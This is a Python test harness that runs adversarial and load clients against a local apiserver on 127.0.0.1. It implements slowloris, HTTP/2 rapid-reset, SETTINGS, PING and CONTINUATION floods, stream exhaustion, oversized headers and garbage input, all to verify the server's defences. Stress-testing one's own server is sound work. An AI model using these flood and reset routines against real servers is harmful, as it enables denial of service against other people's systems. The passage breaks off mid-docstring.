#!/usr/bin/python3
"""Adversarial and load clients for the apiserver binary (127.0.0.1 only).

Each subcommand attacks or loads the server on --port and prints one line of `key=value` pairs (the C++ tests parse
them). TLS runs over ssl.MemoryBIO so a client can half-close TCP, stop reading, or send raw HTTP/2 frames.

  clients.py slowloris --port P --connections 1000 --seconds 8
  clients.py h2 --port P --attack rapid_reset
"""

import argparse
import os
import random
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import hyperframe.frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DEMO = "/apis/demo.apiserve.io/v1"


def raise_fd_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def ssl_context(alpn):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols([alpn])
    return ctx


class Tls:
    """A TLS client over a plain socket and memory BIOs: the socket stays ours (shutdown(SHUT_WR), no reading)."""

    def __init__(self, port, alpn="http/1.1", ctx=None, timeout=10.0, blocking=True):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.incoming = ssl.MemoryBIO()
        self.outgoing = ssl.MemoryBIO()
        self.obj = (ctx or ssl_context(alpn)).wrap_bio(self.incoming, self.outgoing, server_side=False)
        self.eof = False
        if blocking:
            self.handshake(timeout)

    def flush(self):
        data = self.outgoing.read()
        if data:
            self.sock.sendall(data)

    def _fill(self, timeout):
        """Reads ciphertext once; False on timeout. Sets eof on close or reset."""
        r, _, _ = select.select([self.sock], [], [], timeout)
        if not r:
            return False
        try:
            data = self.sock.recv(65536)
        except (ConnectionResetError, OSError):
            data = b""
        if not data:
            self.eof = True
            self.incoming.write_eof()
        else:
            self.incoming.write(data)
        return True

    def handshake(self, timeout=10.0):
        deadline = time.monotonic() + timeout
        while True:
            try:
                self.obj.do_handshake()
                self.flush()
                return
            except ssl.SSLWantReadError:
                self.flush()
                if self.eof or time.monotonic() > deadline:
                    raise ConnectionError("handshake failed")
                self._fill(max(0.0, deadline - time.monotonic()))

    def alpn(self):
        return self.obj.selected_alpn_protocol()

    def send(self, data):
        view = memoryview(data)
        while view:
            n = self.obj.write(view[:65536])
            view = view[n:]
            self.flush()

    def recv(self, timeout=10.0):
        """Plaintext bytes; b"" at EOF (clean or not); None on timeout."""
        deadline = time.monotonic() + timeout
        while True:
            try:
                data = self.obj.read(65536)
                if data:
                    return data
                return b""
            except ssl.SSLWantReadError:
                if self.eof:
                    return b""
                if not self._fill(max(0.0, deadline - time.monotonic())):
                    return None
            except (ssl.SSLError, ssl.SSLEOFError):
                return b""

    def recv_until_closed(self, timeout=10.0, limit=64 << 20):
        out = bytearray()
        deadline = time.monotonic() + timeout
        while len(out) < limit:
            data = self.recv(max(0.0, deadline - time.monotonic()))
            if data is None:
                return bytes(out), False
            if not data:
                return bytes(out), True
            out += data
        return bytes(out), False

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def h1_request(method, path, body=b"", headers=()):
    lines = ["%s %s HTTP/1.1" % (method, path), "Host: 127.0.0.1"]
    lines += list(headers)
    if (body or method == "POST") and not any(h.lower().startswith(("content-length:", "transfer-encoding:"))
                                              for h in headers):
        lines.append("Content-Length: %d" % len(body))
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def h1_status(data):
    if not data.startswith(b"HTTP/1.1 "):
        return 0
    return int(data[9:12])


def h1_read_response(tls, timeout=10.0):
    """Reads one response (Content-Length or chunked). Returns (status, headers, body, complete)."""
    buf = bytearray()
    deadline = time.monotonic() + timeout
    while b"\r\n\r\n" not in buf:
        data = tls.recv(max(0.0, deadline - time.monotonic()))
        if not data:
            return h1_status(bytes(buf)), b"", b"", False
        buf += data
    head, _, rest = bytes(buf).partition(b"\r\n\r\n")
    lower = head.lower()
    body = bytearray(rest)

    def more():
        data = tls.recv(max(0.0, deadline - time.monotonic()))
        if not data:
            return False
        body.extend(data)
        return True

    if b"transfer-encoding: chunked" in lower:
        while not body.endswith(b"0\r\n\r\n"):
            if not more():
                return h1_status(head), head, bytes(body), False
        return h1_status(head), head, bytes(body), True
    length = 0
    for line in lower.split(b"\r\n"):
        if line.startswith(b"content-length:"):
            length = int(line.split(b":")[1])
    while len(body) < length:
        if not more():
            return h1_status(head), head, bytes(body), False
    return h1_status(head), head, bytes(body), True


def frames(data):
    """Parses HTTP/2 frames from `data` (server to client); stops at a partial frame."""
    out = []
    pos = 0
    while pos + 9 <= len(data):
        frame, length = hyperframe.frame.Frame.parse_frame_header(memoryview(data[pos:pos + 9]))
        if pos + 9 + length > len(data):
            break
        frame.parse_body(memoryview(data[pos + 9:pos + 9 + length]))
        out.append(frame)
        pos += 9 + length
    return out


def goaway_of(data):
    for f in frames(data):
        if isinstance(f, hyperframe.frame.GoAwayFrame):
            return f
    return None


def report(**fields):
    print(" ".join("%s=%s" % (k, v) for k, v in fields.items()))
    sys.stdout.flush()


def percentile(values, p):
    if not values:
        return 0.0
    values = sorted(values)
    return values[min(len(values) - 1, int(len(values) * p / 100.0))]


# --- slowloris ---------------------------------------------------------------------------------------------------


def normal_client(port, stop, latencies, failures):
    """Keeps asking /healthz on fresh connections until `stop` is set."""
    ctx = ssl_context("http/1.1")
    while not stop.is_set():
        start = time.monotonic()
        try:
            tls = Tls(port, ctx=ctx, timeout=5.0)
            tls.send(h1_request("GET", "/healthz", headers=["Connection: close"]))
            status, _, body, complete = h1_read_response(tls, 5.0)
            tls.close()
            if status == 200 and complete and body == b"ok":
                latencies.append(time.monotonic() - start)
            else:
                failures.append(status)
        except (OSError, ConnectionError):
            failures.append(-1)
        time.sleep(0.02)


def slowloris(args):
    raise_fd_limit()
    ctx = ssl_context("http/1.1")
    stop = threading.Event()
    latencies, failures = [], []
    normal = threading.Thread(target=normal_client, args=(args.port, stop, latencies, failures))
    normal.start()
    conns = {}  # socket -> [Tls, opened_at, closed_at, bytes_sent]
    opened = 0
    refused = 0
    start = time.monotonic()
    deadline = start + args.seconds
    # Open in batches; each connection does its handshake and then trickles one header byte per round.
    trickle = h1_request("GET", "/healthz")[:-2]  # never the final CRLF
    while time.monotonic() < deadline:
        while opened < args.connections and len(conns) < args.connections:
            batch = 0
            while opened < args.connections and batch < 50:
                try:
                    tls = Tls(args.port, ctx=ctx, timeout=5.0, blocking=False)
                    tls.sock.setblocking(False)
                    conns[tls.sock] = [tls, time.monotonic(), None, 0, False]
                except OSError:
                    refused += 1
                opened += 1
                batch += 1
            break
        now = time.monotonic()
        for sock, state in list(conns.items()):
            tls = state[0]
            if state[2] is not None:
                continue
            try:
                if not state[4]:
                    try:
                        tls.obj.do_handshake()
                        state[4] = True
                    except ssl.SSLWantReadError:
                        pass
                    data = tls.outgoing.read()
                    if data:
                        sock.send(data)
                elif state[3] < len(trickle):
                    tls.obj.write(trickle[state[3]:state[3] + 1])
                    state[3] += 1
                    sock.send(tls.outgoing.read())
            except (BlockingIOError, ssl.SSLWantWriteError):
                pass
            except (OSError, ssl.SSLError):
                state[2] = now
                continue
            try:
                data = sock.recv(65536)
                if not data:
                    state[2] = now
                else:
                    tls.incoming.write(data)
            except BlockingIOError:
                pass
            except OSError:
                state[2] = now
        if opened >= args.connections and all(s[2] is not None for s in conns.values()):
            break
        time.sleep(0.1)
    stop.set()
    normal.join()
    lifetimes = [s[2] - s[1] for s in conns.values() if s[2] is not None]
    still_open = sum(1 for s in conns.values() if s[2] is None)
    for s in conns.values():
        s[0].close()
    report(opened=opened, connect_errors=refused, closed_by_server=len(lifetimes), still_open=still_open,
           max_lifetime_ms=int(max(lifetimes or [0]) * 1000), normal_ok=len(latencies), normal_failed=len(failures),
           normal_p50_ms="%.1f" % (percentile(latencies, 50) * 1000),
           normal_p99_ms="%.1f" % (percentile(latencies, 99) * 1000),
           normal_max_ms="%.1f" % (max(latencies or [0]) * 1000), seconds="%.1f" % (time.monotonic() - start))


# --- garbage -----------------------------------------------------------------------------------------------------


def garbage(args):
    rng = random.Random(1)
    closed = 0
    for i in range(args.connections):
        sock = socket.create_connection(("127.0.0.1", args.port), timeout=5.0)
        if i % 2 == 0:
            payload = bytes(rng.getrandbits(8) for _ in range(4096))
        else:
            payload = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
        try:
            sock.sendall(payload)
            while sock.recv(65536):
                pass
            closed += 1
        except socket.timeout:
            pass
        except OSError:
            closed += 1
        sock.close()
    # Valid TLS, then garbage instead of HTTP/1.1: 400 and a close.
    tls = Tls(args.port)
    tls.send(bytes(range(1, 256)) * 4 + b"\r\n\r\n")
    data, tls_closed = tls.recv_until_closed(5.0)
    report(connections=args.connections, closed=closed, tls_garbage_status=h1_status(data),
           tls_garbage_closed=int(tls_closed))


# --- oversized headers and bodies --------------------------------------------------------------------------------


def h2_client(port):
    tls = Tls(port, alpn="h2")
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                                                      validate_outbound_headers=False,
                                                                      normalize_outbound_headers=False))
    conn.initiate_connection()
    tls.send(conn.data_to_send())
    return tls, conn


def h2_exchange(tls, conn, stream_id, timeout=10.0):
    """Reads until `stream_id` ends; returns (status, body, goaway_error or None)."""
    status, body = 0, bytearray()
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        data = tls.recv(max(0.0, deadline - time.monotonic()))
        if not data:
            return status, bytes(body), "closed"
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream_id:
                status = int(dict(event.headers)[":status"])
            elif isinstance(event, h2.events.DataReceived):
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                if event.stream_id == stream_id:
                    body += event.data
            elif isinstance(event, h2.events.StreamEnded) and event.stream_id == stream_id:
                tls.send(conn.data_to_send())
                return status, bytes(body), None
            elif isinstance(event, h2.events.StreamReset) and event.stream_id == stream_id:
                return status, bytes(body), "reset:%d" % event.error_code
            elif isinstance(event, h2.events.ConnectionTerminated):
                return status, bytes(body), "goaway:%d" % event.error_code
        tls.send(conn.data_to_send())
    return status, bytes(body), "timeout"


def oversize(args):
    big_headers = ["X-Big-%d: %s" % (i, "a" * 8000) for i in range(140)]  # ~1.1 MiB
    results = {}
    # HTTP/1.1 header block over 1 MiB.
    tls = Tls(args.port)
    tls.send(h1_request("GET", "/healthz", headers=big_headers))
    data, _ = tls.recv_until_closed(10.0)
    results["h1_headers"] = h1_status(data)
    # HTTP/2 header block over 1 MiB (many fields: nghttp2 caps one field at 64 KiB).
    tls, conn = h2_client(args.port)
    headers = [(":method", "GET"), (":scheme", "https"), (":authority", "127.0.0.1"), (":path", "/healthz")]
    headers += [("x-big-%d" % i, "b" * 8000) for i in range(140)]
    conn.send_headers(1, headers, end_stream=True)
    tls.send(conn.data_to_send())
    status, _, err = h2_exchange(tls, conn, 1)
    results["h2_headers"] = status if status else err
    report(**results)


# --- HTTP/2 attacks ----------------------------------------------------------------------------------------------


def raw_h2(port):
    tls = Tls(port, alpn="h2")
    if tls.alpn() != "h2":
        raise SystemExit("no h2")
    settings = hyperframe.frame.SettingsFrame(0)
    tls.send(PREFACE + settings.serialize())
    return tls


def headers_frame(stream_id, path, end_stream=True, end_headers=True, encoder=None):
    import hpack
    encoder = encoder or hpack.Encoder()
    block = encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "127.0.0.1"), (":path", path)])
    f = hyperframe.frame.HeadersFrame(stream_id)
    f.data = block
    if end_headers:
        f.flags.add("END_HEADERS")
    if end_stream:
        f.flags.add("END_STREAM")
    return f.serialize()


def settings_ack():
    f = hyperframe.frame.SettingsFrame(0)
    f.flags.add("ACK")
    return f.serialize()


def pump(tls, payload, timeout):
    """Sends `payload` while reading; returns (received, closed). Sending stops at the first error."""
    received = bytearray()
    deadline = time.monotonic() + timeout
    view = memoryview(payload)
    tls.sock.setblocking(False)
    while time.monotonic() < deadline:
        if view:
            try:
                tls.obj.write(view[:16384])
                view = view[16384:]
            except ssl.SSLError:
                view = view[:0]
        pending = tls.outgoing.pending
        wlist = [tls.sock] if pending else []
        r, w, _ = select.select([tls.sock], wlist, [], 0.05)
        if w:
            try:
                data = tls.outgoing.read()
                n = tls.sock.send(data)
                if n < len(data):
                    rest = data[n:]
                    # Put back what the kernel did not take (MemoryBIO has no unread): resend blocking.
                    tls.sock.setblocking(True)
                    tls.sock.settimeout(2.0)
                    try:
                        tls.sock.sendall(rest)
                    except OSError:
                        view = view[:0]
                    tls.sock.setblocking(False)
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                view = view[:0]
        if r:
            try:
                data = tls.sock.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                tls.incoming.write_eof()
                try:
                    while True:
                        chunk = tls.obj.read(65536)
                        if not chunk:
                            break
                        received += chunk
                except (ssl.SSLError, ssl.SSLWantReadError):
                    pass
                return bytes(received), True
            tls.incoming.write(data)
            try:
                while True:
                    chunk = tls.obj.read(65536)
                    if not chunk:
                        break
                    received += chunk
            except ssl.SSLWantReadError:
                pass
            except ssl.SSLError:
                return bytes(received), True
    return bytes(received), False


def h2_attack(args):
    tls = raw_h2(args.port)
    attack = args.attack
    out = bytearray(settings_ack())
    if attack == "rapid_reset":
        import hpack
        enc = hpack.Encoder()
        for i in range(5000):
            sid = 1 + 2 * i
            out += headers_frame(sid, DEMO + "/delay?duration=5s", encoder=enc)
            out += hyperframe.frame.RstStreamFrame(sid, error_code=8).serialize()
    elif attack == "settings_flood":
        for _ in range(50000):
            out += hyperframe.frame.SettingsFrame(0, settings={hyperframe.frame.SettingsFrame.ENABLE_PUSH: 0}).serialize()
    elif attack == "ping_flood":
        for i in range(50000):
            out += hyperframe.frame.PingFrame(0, opaque_data=struct.pack(">Q", i)).serialize()
    elif attack == "continuation":
        f = hyperframe.frame.HeadersFrame(1)
        f.data = b"\x82"  # :method GET, indexed
        out += f.serialize()
        for _ in range(20000):
            c = hyperframe.frame.ContinuationFrame(1)
            c.data = b"\x40\x01a\x01b"  # literal with indexing: a: b
            out += c.serialize()
    elif attack == "many_streams":
        import hpack
        enc = hpack.Encoder()
        for i in range(10000):
            out += headers_frame(1 + 2 * i, DEMO + "/delay?duration=3s", encoder=enc)
    else:
        raise SystemExit("unknown attack " + attack)
    received, closed = pump(tls, bytes(out), args.seconds)
    goaway = goaway_of(received)
    resets = {}
    for f in frames(received):
        if isinstance(f, hyperframe.frame.RstStreamFrame):
            resets[f.error_code] = resets.get(f.error_code, 0) + 1
    tls.close()
    report(attack=attack, goaway=(goaway.error_code if goaway else -1),
           last_stream=(goaway.last_stream_id if goaway else -1), closed=int(closed),
           resets=",".join("%d:%d" % kv for kv in sorted(resets.items())) or "none")


# --- half-closed sockets -----------------------------------------------------------------------------------------


def half_close(args):
    answered, closed_clean = 0, 0
    for i in range(args.connections):
        tls = Tls(args.port, alpn="h2" if i % 2 else "http/1.1")
        if tls.alpn() == "h2":
            conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
            conn.initiate_connection()
            conn.send_headers(1, [(":method", "GET"), (":scheme", "https"), (":authority", "127.0.0.1"),
                                  (":path", "/healthz")], end_stream=True)
            tls.send(conn.data_to_send())
            tls.sock.shutdown(socket.SHUT_WR)
            data, closed = tls.recv_until_closed(5.0)
            # python-h2 refuses DATA after a GOAWAY, which the server may send first: read the frames directly.
            ok = any(isinstance(f, hyperframe.frame.DataFrame) and f.stream_id == 1 and f.data == b"ok"
                     for f in frames(data))
        else:
            path = "/healthz" if i % 4 == 0 else DEMO + "/delay?duration=200ms"
            tls.send(h1_request("GET", path))
            tls.sock.shutdown(socket.SHUT_WR)
            data, closed = tls.recv_until_closed(5.0)
            ok = h1_status(data) == 200
        answered += int(ok)
        closed_clean += int(closed)
        tls.close()
    report(connections=args.connections, answered=answered, closed=closed_clean)


# --- clients that never read -------------------------------------------------------------------------------------


def no_read(args):
    """Opens connections whose responses are never read; holds them for --seconds, then exits (closing all)."""
    raise_fd_limit()
    held = []
    body = b"e" * (1 << 20)
    for i in range(args.connections):
        tls = Tls(args.port)
        # Pipelined echo requests: the responses pile up until the server stops producing.
        try:
            tls.sock.settimeout(2.0)
            for _ in range(8):
                tls.send(h1_request("POST", DEMO + "/echo", body=body))
        except (OSError, socket.timeout):
            pass
        held.append(tls)
    for i in range(args.connections):
        tls = Tls(args.port)
        tls.send(h1_request("GET", DEMO + "/ticks?count=100000&interval=1ms"))
        held.append(tls)
    for i in range(max(1, args.connections // 10)):
        tls = raw_h2(args.port)
        import hpack
        enc = hpack.Encoder()
        out = bytearray(settings_ack())
        for s in range(100):
            out += headers_frame(1 + 2 * s, DEMO + "/ticks?count=100000&interval=1ms", encoder=enc)
        tls.send(bytes(out))
        held.append(tls)
    report(held=len(held))
    time.sleep(args.seconds)
    for tls in held:
        tls.close()


# --- shutdown under load -----------------------------------------------------------------------------------------


class Tally:
    def __init__(self):
        self.lock = threading.Lock()
        self.ok = 0
        self.refused = 0
        self.rejected_429 = 0
        self.retry_after_ok = True
        self.incomplete = []  # (id, what): a response head without a complete body, or an error after acceptance
        self.unanswered = []  # ids with no response byte at all (the access log decides whether they were accepted)
        self.bad_status = []

    def add(self, field, value=None):
        with self.lock:
            if value is None:
                setattr(self, field, getattr(self, field) + 1)
            else:
                getattr(self, field).append(value)


def load_paths(i):
    kind = i % 4
    if kind == 0:
        return "/apis?id=%d" % i, None
    if kind == 1:
        return DEMO + "/delay?duration=300ms&id=%d" % i, b'{"delayed":"300ms"}\n'
    if kind == 2:
        return DEMO + "/ticks?count=4&interval=100ms&id=%d" % i, None
    return "/version?id=%d" % i, None


def check_answer(tally, rid, status, body, expect, complete):
    if not complete:
        tally.add("incomplete", "%s:status=%d" % (rid, status))
    elif status == 200:
        if expect is not None and body != expect:
            tally.add("incomplete", "%s:body" % rid)
        else:
            # A ticks stream may end early, cleanly, once the server stops accepting requests (by design: the
            # request's shutting-down signal); its terminator arrived, so nothing was lost.
            tally.add("ok")
    elif status == 429:
        tally.add("rejected_429")
    else:
        tally.add("bad_status", "%s:%d" % (rid, status))


def h1_loader(port, worker, stop, tally, counter):
    ctx = ssl_context("http/1.1")
    tls = None
    while not stop.is_set():
        with counter[1]:
            counter[0] += 1
            i = counter[0]
        path, expect = load_paths(i)
        rid = path
        if tls is None:
            try:
                tls = Tls(port, ctx=ctx, timeout=5.0)
            except (OSError, ConnectionError):
                tally.add("refused")
                tls = None
                time.sleep(0.05)
                continue
        try:
            tls.send(h1_request("GET", path))
        except OSError:
            tally.add("unanswered", rid)
            tls = None
            continue
        status, head, body, complete = h1_read_response(tls, 10.0)
        if status == 0:
            tally.add("unanswered", rid)
            tls.close()
            tls = None
            continue
        if "ticks" in path and complete:
            body = decode_chunked(body)
        check_answer(tally, rid, status, body, expect, complete)
        if status == 429 and b"retry-after: 5" not in head.lower():
            tally.retry_after_ok = False
        if not complete or b"connection: close" in head.lower():
            tls.close()
            tls = None


def decode_chunked(data):
    out = bytearray()
    pos = 0
    while True:
        end = data.find(b"\r\n", pos)
        if end < 0:
            return bytes(out)
        size = int(data[pos:end].split(b";")[0], 16)
        if size == 0:
            return bytes(out)
        out += data[end + 2:end + 2 + size]
        pos = end + 2 + size + 2


class RawH2:
    """A minimal HTTP/2 client from raw frames. python-h2 refuses DATA that follows a GOAWAY, which the server sends
    before the last DATA of a connection it is closing (one request per anonymous HTTP/2 connection, shutdown)."""

    def __init__(self, port):
        import hpack
        self.tls = raw_h2(port)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buf = bytearray()
        self.next_id = 1  # the server's SETTINGS is acknowledged when it arrives (events)
        self.streams = {}  # for read(): id -> status, headers, body, ended, reset
        self.goaway = None
        self.closed = False

    def request(self, path):
        sid = self.next_id
        self.next_id += 2
        self.tls.send(headers_frame(sid, path, encoder=self.encoder))
        return sid

    # --- streams with bodies (the request-body modes): state per stream, read from events() ---

    def stream(self, sid):
        return self.streams.setdefault(sid, {"status": 0, "headers": {}, "body": bytearray(), "ended": False,
                                        "reset": None})

    def headers(self, sid, method, path, extra=(), end_stream=False):
        f = hyperframe.frame.HeadersFrame(sid)
        f.data = self.encoder.encode([(":method", method), (":scheme", "https"), (":authority", "127.0.0.1"),
                                      (":path", path)] + list(extra))
        f.flags.add("END_HEADERS")
        if end_stream:
            f.flags.add("END_STREAM")
        self.tls.send(f.serialize())
        self.stream(sid)

    def data(self, sid, payload, end_stream=False):
        """Sends `payload` in 16 KiB DATA frames; False if the connection is gone."""
        try:
            for i in range(0, max(len(payload), 1), 16384):
                f = hyperframe.frame.DataFrame(sid)
                f.data = payload[i:i + 16384]
                if end_stream and i + 16384 >= len(payload):
                    f.flags.add("END_STREAM")
                self.tls.send(f.serialize())
            return True
        except OSError:
            return False

    def read(self, timeout):
        """Reads frames for up to `timeout` seconds into the streams' state; sets `closed` at EOF."""
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            frames_in = self.events(max(0.0, deadline - time.monotonic()))
            if frames_in is None:
                self.closed = self.tls.eof
                if self.closed or time.monotonic() >= deadline:
                    return
                continue
            for f in frames_in:
                if isinstance(f, hyperframe.frame.HeadersFrame):
                    st = self.stream(f.stream_id)
                    for name, value in self.decoder.decode(f.data):
                        if name == ":status":
                            st["status"] = int(value)
                        else:
                            st["headers"][name] = value
                    st["ended"] = st["ended"] or "END_STREAM" in f.flags
                elif isinstance(f, hyperframe.frame.DataFrame):
                    st = self.stream(f.stream_id)
                    st["body"] += f.data
                    st["ended"] = st["ended"] or "END_STREAM" in f.flags
                elif isinstance(f, hyperframe.frame.RstStreamFrame):
                    self.stream(f.stream_id)["reset"] = f.error_code
                elif isinstance(f, hyperframe.frame.GoAwayFrame):
                    self.goaway = f.error_code

    def read_until(self, pred, timeout):
        deadline = time.monotonic() + timeout
        while not pred() and not self.closed and time.monotonic() < deadline:
            self.read(min(0.2, max(0.0, deadline - time.monotonic())))
        return pred()

    def events(self, timeout):
        """Yields frames; None at EOF."""
        data = self.tls.recv(timeout)
        if not data:
            return None
        self.buf += data
        out = []
        while len(self.buf) >= 9:
            frame, length = hyperframe.frame.Frame.parse_frame_header(memoryview(bytes(self.buf[:9])))
            if len(self.buf) < 9 + length:
                break
            frame.parse_body(memoryview(bytes(self.buf[9:9 + length])))
            del self.buf[:9 + length]
            out.append(frame)
        replies = bytearray()
        for f in out:
            if isinstance(f, hyperframe.frame.SettingsFrame) and "ACK" not in f.flags:
                replies += settings_ack()
            elif isinstance(f, hyperframe.frame.DataFrame) and f.flow_controlled_length:
                replies += hyperframe.frame.WindowUpdateFrame(0, window_increment=f.flow_controlled_length).serialize()
                if "END_STREAM" not in f.flags:
                    replies += hyperframe.frame.WindowUpdateFrame(
                        f.stream_id, window_increment=f.flow_controlled_length).serialize()
            elif isinstance(f, hyperframe.frame.PingFrame) and "ACK" not in f.flags:
                ack = hyperframe.frame.PingFrame(0, opaque_data=f.opaque_data)
                ack.flags.add("ACK")
                replies += ack.serialize()
        if replies:
            try:
                self.tls.send(bytes(replies))
            except OSError:
                pass
        return out


def h2_loader(port, worker, stop, tally, counter, concurrency=4):
    while not stop.is_set():
        try:
            conn = RawH2(port)
        except (OSError, ConnectionError, SystemExit):
            tally.add("refused")
            time.sleep(0.05)
            continue
        streams = {}  # id -> [rid, expect, status, body, retry_after]
        goaway_last = None
        while True:
            while len(streams) < concurrency and goaway_last is None and not stop.is_set():
                with counter[1]:
                    counter[0] += 1
                    i = counter[0]
                path, expect = load_paths(i)
                try:
                    sid = conn.request(path)
                except OSError:
                    tally.add("unanswered", path)
                    break
                streams[sid] = [path, expect, 0, bytearray(), b""]
            if not streams:
                break
            frames_in = conn.events(10.0)
            if frames_in is None:
                break
            for f in frames_in:
                st = streams.get(f.stream_id)
                if isinstance(f, hyperframe.frame.HeadersFrame) and st is not None:
                    hdrs = dict(conn.decoder.decode(bytes(f.data), raw=True))
                    st[2] = int(hdrs[b":status"])
                    st[4] = hdrs.get(b"retry-after", b"")
                if isinstance(f, hyperframe.frame.DataFrame) and st is not None:
                    st[3] += f.data
                if isinstance(f, (hyperframe.frame.HeadersFrame, hyperframe.frame.DataFrame)) and st is not None \
                        and "END_STREAM" in f.flags:
                    rid, expect, status, body, retry_after = streams.pop(f.stream_id)
                    check_answer(tally, rid, status, bytes(body), expect, True)
                    if status == 429 and retry_after != b"5":
                        tally.retry_after_ok = False
                elif isinstance(f, hyperframe.frame.RstStreamFrame) and st is not None:
                    rid, _, status, _, _ = streams.pop(f.stream_id)
                    if f.error_code == 7 and status == 0:  # REFUSED_STREAM: never processed
                        tally.add("refused")
                    else:
                        tally.add("incomplete", "%s:reset=%d" % (rid, f.error_code))
                elif isinstance(f, hyperframe.frame.GoAwayFrame):
                    goaway_last = f.last_stream_id
                    for sid in [s for s in streams if s > goaway_last]:
                        streams.pop(sid)
                        tally.add("refused")  # GOAWAY-unprocessed: safe to retry
        for sid, (rid, _, status, _, _) in streams.items():
            if status:
                tally.add("incomplete", "%s:status=%d" % (rid, status))
            else:
                tally.add("unanswered", rid)
        conn.tls.close()


def shutdown_load(args):
    stop = threading.Event()
    tally = Tally()
    counter = [0, threading.Lock()]
    threads = [threading.Thread(target=h1_loader, args=(args.port, w, stop, tally, counter))
               for w in range(args.h1_workers)]
    threads += [threading.Thread(target=h2_loader, args=(args.port, w, stop, tally, counter))
                for w in range(args.h2_workers)]
    for t in threads:
        t.start()
    time.sleep(args.seconds)
    stop.set()
    for t in threads:
        t.join(30)
    report(sent=counter[0], ok=tally.ok, refused=tally.refused, rejected_429=tally.rejected_429,
           retry_after_ok=int(tally.retry_after_ok), incomplete=len(tally.incomplete),
           bad_status=len(tally.bad_status), unanswered=len(tally.unanswered),
           unanswered_ids=",".join(tally.unanswered) or "none",
           incomplete_ids=",".join(tally.incomplete[:10]) or "none", bad_ids=",".join(tally.bad_status[:10]) or "none")


# --- request bodies: answered on their headers, bounded, timed out (DESIGN §4) -----------------------------------


def bearer(args):
    return [("authorization", "Bearer " + args.token)] if args.token else []


def h1_bearer(args):
    return ["Authorization: Bearer " + args.token] if args.token else []


def h1_answer(tls, timeout, close_wait=3.0):
    """Reads one HTTP/1.1 response; returns (status, headers dict, body, closed): whether the server closed the
    connection within `close_wait` seconds after it."""
    status, head, body, _ = h1_read_response(tls, timeout)
    headers = {}
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.decode("latin-1").partition(":")
        headers[name.strip().lower()] = value.strip()
    _, closed = tls.recv_until_closed(close_wait)
    return status, headers, body, closed


def early_answer(args):
    """A POST whose body is announced but only partly sent, then nothing: the answer must come without the rest.
    HTTP/1.1 announces --body-limit bytes and sends 64 KiB; HTTP/2 sends 64 KiB without END_STREAM. Reports the
    status each got, and how the connection or stream ended after it."""
    path = DEMO + "/echo"
    results = {}
    tls = Tls(args.port)
    tls.send(h1_request("POST", path, headers=["Content-Length: %d" % args.body_limit] + h1_bearer(args))[:-2])
    tls.send(b"\r\n\r\n" + b"x" * 65536)
    status, headers, body, closed = h1_answer(tls, args.seconds)
    results.update(h1_status=status, h1_connection_close=int(headers.get("connection", "") == "close"),
                   h1_closed=int(closed), h1_audit_id=int(bool(headers.get("audit-id"))),
                   h1_reason=json_field(body, "reason"))
    client = RawH2(args.port)
    client.headers(1, "POST", path, bearer(args))
    client.data(1, b"y" * 65536)
    client.read_until(lambda: client.streams[1]["reset"] is not None or client.streams[1]["ended"] and
                      client.goaway is not None, args.seconds)
    client.read(0.5)
    st = client.streams[1]
    results.update(h2_status=st["status"], h2_reset=-1 if st["reset"] is None else st["reset"],
                   h2_goaway=-1 if client.goaway is None else client.goaway,
                   h2_audit_id=int(bool(st["headers"].get("audit-id"))), h2_reason=json_field(st["body"], "reason"))
    report(**results)


def json_field(body, key):
    import json
    try:
        return str(json.loads(bytes(body).decode()).get(key, "")) or "none"
    except ValueError:
        return "none"


def over_limit(args):
    """Bodies over --body-limit, declared and streamed, HTTP/1.1 and HTTP/2: kube's 413 Status JSON each time."""
    path = DEMO + "/echo"
    results = {}
    for name, declared in (("h1_declared", True), ("h1_chunked", False)):
        tls = Tls(args.port)
        framing = "Content-Length: %d" % (args.body_limit + 1) if declared else "Transfer-Encoding: chunked"
        tls.send(h1_request("POST", path, headers=[framing] + h1_bearer(args)))
        sent_ok = True
        if not declared:
            try:
                chunk = b"%x\r\n%s\r\n" % (1 << 16, b"c" * (1 << 16))
                for _ in range(args.body_limit // (1 << 16) + 2):
                    tls.send(chunk)
            except OSError:
                sent_ok = False
        status, headers, body, _ = h1_answer(tls, args.seconds)
        results[name] = status
        results[name + "_message"] = json_field(body, "message").replace(" ", "_")
        results[name + "_audit_id"] = int(bool(headers.get("audit-id")))
        results[name + "_sent_all"] = int(sent_ok)
    for name, declared in (("h2_declared", True), ("h2_streamed", False)):
        client = RawH2(args.port)
        extra = bearer(args) + ([("content-length", str(args.body_limit + 1))] if declared else [])
        client.headers(1, "POST", path, extra)
        if not declared:
            # More than the limit, as the windows allow (the server grants credit as the body is read).
            sent = 0
            while sent <= args.body_limit and not client.streams[1]["status"] and not client.closed:
                if not client.data(1, b"s" * 65536):
                    break
                sent += 65536
                client.read(0.01)
        client.read_until(lambda: client.streams[1]["ended"] or client.streams[1]["reset"] is not None, args.seconds)
        st = client.streams[1]
        results[name] = st["status"]
        results[name + "_message"] = json_field(st["body"], "message").replace(" ", "_")
        results[name + "_audit_id"] = int(bool(st["headers"].get("audit-id")))
    report(**results)


def stalled_body(args):
    """An authenticated POST to the echo handler (which reads its body) that stops sending half-way: the request
